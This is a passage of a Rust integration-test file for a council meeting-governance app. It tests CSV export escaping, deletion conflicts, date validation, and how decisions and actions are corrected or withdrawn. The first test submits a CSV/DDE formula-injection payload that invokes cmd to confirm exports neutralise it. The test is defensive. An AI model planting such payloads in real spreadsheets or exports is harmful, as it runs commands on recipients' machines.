        json!({"item_id": item, "text": "@SUM(1+1)*cmd|' /C calc'!A0"}),
    )
    .await;
    assert_eq!(decided.status(), 201);
    for (path, column, bad) in [
        ("/bodies/psb/actions.csv", "description", formula),
        (
            "/bodies/psb/decisions.csv",
            "text",
            "@SUM(1+1)*cmd|' /C calc'!A0",
        ),
    ] {
        let body = app.get(path, None).await.text().await.unwrap_or_default();
        let mut r = ::csv::Reader::from_reader(body.as_bytes());
        let headers = r.headers().expect("header").clone();
        let at = headers
            .iter()
            .position(|h| h == column)
            .expect("the column");
        let cells: Vec<String> = r
            .records()
            .map(|row| row.expect("row")[at].to_string())
            .collect();
        assert!(
            cells.iter().any(|c| c == &format!("'{bad}")),
            "{path}: {cells:?}"
        );
        assert!(
            cells
                .iter()
                .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
            "{path}: a cell starts a formula: {cells:?}"
        );
    }
}

/// An item with a decision recorded on it cannot be deleted: the answer is
/// 409 with the reason, not a 500 from the database, and the item stays.
#[tokio::test]
async fn an_item_with_a_decision_is_not_deleted() {
    let app = TestApp::spawn().await;
    let b = board(&app).await;
    let resp = post(
        &app,
        &format!("/api/v1/meetings/{}/agenda/items", b.meeting),
        &b.clerk,
        json!({"title": "Flood response", "item_type": "discussion", "verbal_reason": "Events this week", "minutes_allocated": 10}),
    )
    .await;
    assert_eq!(resp.status(), 201);
    let verbal = json(resp).await["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let resp = post(
        &app,
        &format!("/api/v1/meetings/{}/decisions", b.meeting),
        &b.clerk,
        json!({"item_id": verbal, "text": "Thanked the flood wardens."}),
    )
    .await;
    assert_eq!(resp.status(), 201);
    let resp = app
        .api
        .delete(app.url(&format!(
            "/api/v1/meetings/{}/agenda/items/{verbal}",
            b.meeting
        )))
        .bearer_auth(&b.clerk)
        .send()
        .await
        .expect("delete");
    assert_eq!(resp.status(), 409);
    let problem = json(resp).await;
    assert!(
        problem.to_string().contains("decisions"),
        "the answer says why: {problem}"
    );
    let agenda = items(&app, &b).await;
    assert!(
        agenda.to_string().contains("Flood response"),
        "the item is still on the agenda"
    );
}

/// Dates a person could not mean are refused with the field named: a due
/// date of -2027-01-01 and a meeting in the year 9999 were accepted.
#[tokio::test]
async fn impossible_years_are_refused() {
    let app = TestApp::spawn().await;
    let b = board(&app).await;
    let item = items(&app, &b).await["items"][0]["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let owner = user_id(&app, "ceo@ashby.example").await;
    for due in ["-2027-01-01", "9999-12-31", "1066-10-14"] {
        let resp = post(
            &app,
            "/api/v1/actions",
            &b.clerk,
            json!({"item_id": item, "description": "Report back", "owner_user_id": owner, "due_on": due}),
        )
        .await;
        assert_eq!(resp.status(), 422, "{due}");
        assert_eq!(error_fields(&json(resp).await), ["due_on"], "{due}");
    }
    let resp = app
        .post_json(
            "/api/v1/bodies/psb/meetings",
            Some(&b.clerk),
            &json!({"starts_at": "9999-01-12T14:00:00Z", "ends_at": "9999-01-12T16:00:00Z", "location": "County Hall"}),
        )
        .await;
    assert_eq!(resp.status(), 422);
    let fields = error_fields(&json(resp).await);
    assert!(fields.contains(&"starts_at".to_string()), "{fields:?}");
}

/// The secretariat corrects or withdraws a decision before the minutes are
/// approved: every problem at once, the reason and the old words in the
/// audit log, the withdrawn decision keeping its number in the register,
/// no action hung on it, and nothing changed once the minutes are approved.
#[tokio::test]
async fn a_decision_is_corrected_or_withdrawn_until_the_minutes_are_approved() {
    let app = TestApp::spawn().await;
    let b = board(&app).await;
    let resp = post(
        &app,
        &format!("/api/v1/meetings/{}/agenda/items", b.meeting),
        &b.clerk,
        json!({"title": "Flood response", "item_type": "decision", "verbal_reason": "Events this week", "minutes_allocated": 10}),
    )
    .await;
    let item = json(resp).await["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let mut ids = Vec::new();
    for text in ["Thanked the flood wardens.", "Agreed £5,000 for sandbags."] {
        let resp = post(
            &app,
            &format!("/api/v1/meetings/{}/decisions", b.meeting),
            &b.clerk,
            json!({"item_id": item, "text": text}),
        )
        .await;
        assert_eq!(resp.status(), 201);
        ids.push(
            json(resp).await["id"]
                .as_str()
                .unwrap_or_default()
                .to_string(),
        );
    }
    let path =
        |d: &str, change: &str| format!("/api/v1/meetings/{}/decisions/{d}/{change}", b.meeting);

    // Every problem at once; only the secretariat may.
    let resp = post(
        &app,
        &path(&ids[0], "correct"),
        &b.clerk,
        json!({"text": " "}),
    )
    .await;
    assert_eq!(resp.status(), 422);
    assert_eq!(error_fields(&json(resp).await), ["text", "reason"]);
    let resp = post(
        &app,
        &path(&ids[0], "correct"),
        &b.member,
        json!({"text": "Anything", "reason": "Because"}),
    )
    .await;
    assert_eq!(resp.status(), 403);

    let resp = post(
        &app,
        &path(&ids[0], "correct"),
        &b.clerk,
        json!({"text": "Thanked the flood wardens and the fire service.", "reason": "The fire service was left out."}),
    )
    .await;
    assert_eq!(resp.status(), 200);
    assert_eq!(
        json(resp).await["text"],
        "Thanked the flood wardens and the fire service."
    );
    let resp = post(
        &app,
        &path(&ids[1], "withdraw"),
        &b.clerk,
        json!({"reason": "Recorded in error: the board deferred it."}),
    )
    .await;
    assert_eq!(resp.status(), 200);
    let withdrawn = json(resp).await;
    assert_eq!(
        withdrawn["withdrawn_reason"],
        "Recorded in error: the board deferred it."
    );
    let resp = post(
        &app,
        &path(&ids[1], "withdraw"),
        &b.clerk,
        json!({"reason": "Again"}),
    )
    .await;
    assert_eq!(resp.status(), 409, "withdrawn once");

    // It keeps its number in the register, marked withdrawn.
    let register = json(app.get("/api/v1/decisions?body=psb", None).await).await;
    let found: Vec<(String, Value)> = register["items"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .into_iter()
        .map(|d| {
            (
                d["reference"].as_str().unwrap_or_default().to_string(),
                d["withdrawn_reason"].clone(),
            )
        })
        .collect();
    assert_eq!(found.len(), 2, "{register}");
    assert!(
        found
            .iter()
            .any(|(r, w)| r.ends_with("/002") && !w.is_null()),
        "{found:?}"
    );
    assert!(
        found
            .iter()
            .any(|(r, w)| r.ends_with("/001") && w.is_null()),
        "{found:?}"
    );

    // No action hangs on a withdrawn decision.
    let resp = post(
        &app,
        "/api/v1/actions",
        &b.clerk,
        json!({"decision_id": ids[1], "description": "Buy sandbags", "owner_user_id": b.author_id, "due_on": "2027-02-01"}),
    )
    .await;
    assert_eq!(resp.status(), 422);
    assert_eq!(error_fields(&json(resp).await), ["decision_id"]);

    // The audit log keeps why, and what it said before.
    let first = ids[0].clone();
    let audit = app
        .state
        .db(move |c| Ok(quorate::db::audit::for_entity(c, "decision", &first)?))
        .await
        .expect("audit");
    assert!(
        audit.iter().any(|e| e.action == "decision.correct"
            && e.summary.contains("The fire service was left out.")
            && e.summary.contains("It said: Thanked the flood wardens.")),
        "{audit:?}"
    );

    // Once the minutes are approved, the record stands.
    approve_minutes(&app, &b.meeting).await;
    let resp = post(
        &app,
        &path(&ids[0], "correct"),
        &b.clerk,
        json!({"text": "Something else.", "reason": "Second thoughts."}),
    )
    .await;
    assert_eq!(resp.status(), 409);
}

/// An action recorded in error is corrected (words, owner, due date) or
/// withdrawn by the secretariat until the minutes are approved: every
/// problem at once, the reason and the old words in the audit log and the
/// action's history, a new owner told, a withdrawn action gone with the
/// reminders not yet sent, and its owner told.
#[tokio::test]
async fn an_action_is_corrected_or_withdrawn_until_the_minutes_are_approved() {
    let app = TestApp::spawn().await;
    let b = board(&app).await;
    let resp = post(
        &app,
        &format!("/api/v1/meetings/{}/agenda/items", b.meeting),
        &b.clerk,
        json!({"title": "Flood response", "item_type": "decision", "verbal_reason": "Events this week", "minutes_allocated": 10}),
    )
    .await;
    let item = json(resp).await["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let mut ids = Vec::new();
    // Thursday 26 November 2026: due Thursday 3 December is 5 working
    // days away, so each earns a reminder.
    for what in ["Buy sandbags", "Thank the wardens"] {
        let resp = post(&app, "/api/v1/actions", &b.clerk,
            json!({"item_id": item, "description": what, "owner_user_id": b.author_id, "due_on": "2026-12-03"})).await;
        assert_eq!(resp.status(), 201);
        ids.push(
            json(resp).await["id"]
                .as_str()
                .unwrap_or_default()
                .to_string(),
        );
    }
    app.run_pending_jobs().await;
    let path =
        |a: &str, change: &str| format!("/api/v1/meetings/{}/actions/{a}/{change}", b.meeting);

    // Every problem at once; only the secretariat may.
    let resp = post(
        &app,
        &path(&ids[0], "correct"),
        &b.clerk,
        json!({"description": " ", "owner_user_id": "nobody", "due_on": "2027-02-30"}),
    )
    .await;
    assert_eq!(resp.status(), 422);
    assert_eq!(
        error_fields(&json(resp).await),
        ["description", "owner_user_id", "due_on", "reason"]
    );
    let resp = post(
        &app,
        &path(&ids[0], "correct"),
        &b.clerk,
        json!({"description": "Buy sandbags", "owner_user_id": b.author_id, "due_on": "2026-12-03", "reason": "No change"}),
    )
    .await;
    assert_eq!(resp.status(), 422, "a correction changes something");
    assert_eq!(error_fields(&json(resp).await), ["description"]);
    let resp = post(
        &app,
        &path(&ids[0], "correct"),
        &b.member,
        json!({"description": "Anything", "owner_user_id": b.author_id, "due_on": "2027-01-01", "reason": "Because"}),
    )
    .await;
    assert_eq!(resp.status(), 403);
    let resp = post(
        &app,
        &path(&ids[0], "withdraw"),
        &b.author,
        json!({"reason": "I would rather not"}),
    )
    .await;
    assert_eq!(resp.status(), 403, "not even its owner");

    // Corrected: the sponsor owns it now, and is told.
    let resp = post(
        &app,
        &path(&ids[0], "correct"),
        &b.clerk,
        json!({"description": "Buy 500 sandbags for Ashby", "owner_user_id": b.sponsor_id, "due_on": "2027-01-08", "reason": "The board gave it to the chief executive."}),
    )
    .await;
    assert_eq!(resp.status(), 200);
    let corrected = json(resp).await;
    assert_eq!(
        (
            corrected["description"].as_str(),
            corrected["owner_user_id"].as_str(),
            corrected["due_on"].as_str()
        ),
        (
            Some("Buy 500 sandbags for Ashby"),
            Some(b.sponsor_id.as_str()),
            Some("2027-01-08")
        )
    );
    let shown = json(
        app.get(&format!("/api/v1/actions/{}", ids[0]), Some(&b.clerk))
            .await,
    )
    .await;
    assert!(
        shown["history"]
            .as_array()
            .is_some_and(|h| h.iter().any(|e| e["kind"] == "corrected"
                && e["note"]
                    .as_str()
                    .unwrap_or("")
                    .contains("gave it to the chief executive"))),
        "{shown}"
    );
    let first = ids[0].clone();
    let audit = app
        .state
        .db(move |c| Ok(quorate::db::audit::for_entity(c, "action", &first)?))
        .await
        .expect("audit");
    assert!(
        audit.iter().any(|e| e.action == "action.correct"
            && e.summary.contains("gave it to the chief executive")
            && e.summary.contains("It said: Buy sandbags")),
        "{audit:?}"
    );

    // The other earns its reminder, not yet sent, then is withdrawn: the
    // reminder never goes, the owner hears why, and it is gone.
    let parts = app.state.ctx_parts();
    let queued = app
        .state
        .tx(move |c| quorate::services::actions::send_reminders(c, &parts.ctx()))
        .await
        .expect("reminders");
    assert_eq!(queued, 1, "only the action still due on 3 December");
    let resp = post(
        &app,
        &path(&ids[1], "withdraw"),
        &b.clerk,
        json!({"reason": " "}),
    )
    .await;
    assert_eq!(resp.status(), 422);
    assert_eq!(error_fields(&json(resp).await), ["reason"]);
    let resp = post(
        &app,
        &path(&ids[1], "withdraw"),
        &b.clerk,
        json!({"reason": "Recorded in error: the wardens were thanked last time."}),
    )
    .await;
    assert_eq!(resp.status(), 200);
    let before = app.emails().len();
    app.run_pending_jobs().await;
    let mails = app.emails();
    let new: Vec<_> = mails[before..].iter().collect();
    assert!(
        new.iter()
            .any(|m| m.to.iter().any(|t| t.contains("author@ashby.example"))
                && m.text().contains("Thank the wardens")
                && m.text().contains("the wardens were thanked last time")),
        "{new:?}"
    );
    assert!(
        !new.iter().any(|m| m.text().contains("Action due")),
        "the withdrawn action's reminder is not sent: {new:?}"
    );
    assert!(
        mails
            .iter()
            .any(|m| m.to.iter().any(|t| t.contains("ceo@ashby.example"))
                && m.text().contains("Buy 500 sandbags for Ashby")),
        "the new owner is told"
    );
    let resp = app
        .get(&format!("/api/v1/actions/{}", ids[1]), Some(&b.clerk))
        .await;
    assert_eq!(resp.status(), 404);
    let resp = post(
        &app,
        &path(&ids[1], "withdraw"),
        &b.clerk,
        json!({"reason": "Again"}),
    )
    .await;
    assert_eq!(resp.status(), 404, "withdrawn once");
    let second = ids[1].clone();
    let audit = app
        .state
        .db(move |c| Ok(quorate::db::audit::for_entity(c, "action", &second)?))
        .await
        .expect("audit");
    assert!(
        audit.iter().any(|e| e.action == "action.withdraw"
            && e.summary.contains("the wardens were thanked last time")
            && e.summary.contains("It said: Thank the wardens")),
        "{audit:?}"
    );

    // Once the minutes are approved, the record stands.
    approve_minutes(&app, &b.meeting).await;
    for change in ["correct", "withdraw"] {
        let resp = post(
            &app,
            &path(&ids[0], change),
            &b.clerk,
            json!({"description": "Something else", "owner_user_id": b.author_id, "due_on": "2027-03-01", "reason": "Second thoughts."}),
        )
        .await;
        assert_eq!(resp.status(), 409, "{change} after approval");
    }
}
